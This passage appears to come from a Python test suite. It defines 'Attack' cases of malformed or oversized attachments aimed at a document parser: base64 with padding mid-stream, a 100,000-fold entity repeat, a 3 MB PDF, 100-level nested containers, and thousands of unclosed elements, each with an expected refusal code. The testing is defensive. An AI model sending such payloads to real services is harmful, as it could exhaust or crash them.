    ),
    Attack(
        "a file that goes on after its end",
        "refusal T02",
        lambda _: dialogue(attachments=attachment(data="JVBE" * 1_000_000 + "JVB=" + "JVBE")),
    ),
    Attack(
        "a file in characters of their own",
        "refusal T01",
        lambda _: dialogue(attachments=attachment(data="&#65;" * 100_000 + "</a>")),
    ),
    Attack("a large file", READ, lambda _: _file(b"%PDF-1.4\n" + bytes(3_000_000))),
    Attack(
        "files within each other",
        "refusal T02 T99",
        lambda _: dialogue(attachments=attachment(data=_nested("Base64Container", 100, builders.PDF))),
    ),
    Attack(
        "starts of files without end",
        READ,
        lambda _: _told('<Base64Container xmlns="urn:a">JVBE</Base64Container>' * 1_900),
    ),
)

ATTACKS = (
    *(*ENTITIES, *DOCUMENT_TYPES, *ENCODINGS, *DEEP, *WIDE, *ATTRIBUTES),
    *(*TEXTS, *FETCHING, *WRAPPING, *PATTERNS, *SUMMARIES, *ATTACHMENTS),
)
